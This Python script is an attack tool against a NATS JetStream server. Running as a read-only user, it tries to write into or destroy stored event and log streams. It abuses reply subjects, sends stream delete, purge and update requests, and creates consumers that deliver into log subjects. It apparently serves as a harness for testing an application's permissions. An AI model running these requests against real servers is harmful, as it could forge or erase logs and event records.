"""Someone who may only read at a NATS server, and tries everything to write into an event that it keeps.

    nats_attack.py HOST PORT USER PASSWORD [PREFIX]

PREFIX is that of the JetStream API for this user, "$JS.API" by default. Waits until the server keeps an event, then has
the server write for it, into all streams of logs and over all entries: by a consumer that delivers there, by the reply
subject of each request, and plainly. Prints "done N", where N says how many requests were made; each line of standard
input has it begin again.
"""
import json
import sys
import time

import nats_wire


def wait_for_streams(client, prefix):
    while True:
        info = client.request(f"{prefix}.STREAM.INFO.beamscribe_events", {"subjects_filter": ">"})
        subjects = ((info or {}).get("state") or {}).get("subjects") or {}
        logs = {each.split(".")[-1] for each in subjects if ".log." in each}
        if logs:
            return sorted(subjects), sorted(logs)
        time.sleep(0.1)


def attack(client, prefix, subjects, logs):
    targets = [f"beamscribe.log.{log}" for log in logs] + subjects
    sources = ["beamscribe_events"] + ["beamscribe_" + log.replace("-", "") for log in logs]
    count = 0
    for place in {prefix, "$JS.API"}:
        for target in targets:
            client.publish(target, b"{}")
            for source in sources:
                client.publish(f"{place}.STREAM.INFO.{source}", b"", target)
                client.publish(f"{place}.STREAM.MSG.GET.{source}", b'{"seq":1}', target)
                for word in ("DELETE", "PURGE", "UPDATE"):
                    client.publish(f"{place}.STREAM.{word}.{source}", b"{}", target)
                client.publish(
                    f"{place}.STREAM.INFO.{source}", b"", f"{place}.STREAM.DELETE.{source}")
                client.publish(f"{place}.STREAM.MSG.DELETE.{source}", b'{"seq":1}')
                client.publish(f"$JS.FC.{source}.x.y", b"", target)
                count += 8
                if source != "beamscribe_events" or not target.startswith("beamscribe.log."):
                    # Two streams that deliver to each other would only fill the disk.
                    continue
                config = {"deliver_policy": "all", "ack_policy": "none", "deliver_subject": target}
                body = json.dumps({"stream_name": source, "config": config}).encode()
                client.publish(f"{place}.CONSUMER.CREATE.{source}", body, target)
                client.publish(f"{place}.CONSUMER.CREATE.{source}", body)
                durable = json.dumps({"stream_name": source, "config": config | {
                    "durable_name": f"attack{count}"}}).encode()
                client.publish(f"{place}.CONSUMER.DURABLE.CREATE.{source}.attack{count}", durable)
                count += 3
        client.flush()
    return count


def main():
    host, port, user, password = sys.argv[1:5]
    prefix = sys.argv[5] if len(sys.argv) > 5 else "$JS.API"
    client = nats_wire.Client(host, int(port), user, password)
    while True:
        count = attack(client, prefix, *wait_for_streams(client, prefix))
        print(f"done {count}", flush=True)
        if not sys.stdin.readline():
            break


if __name__ == "__main__":
    main()
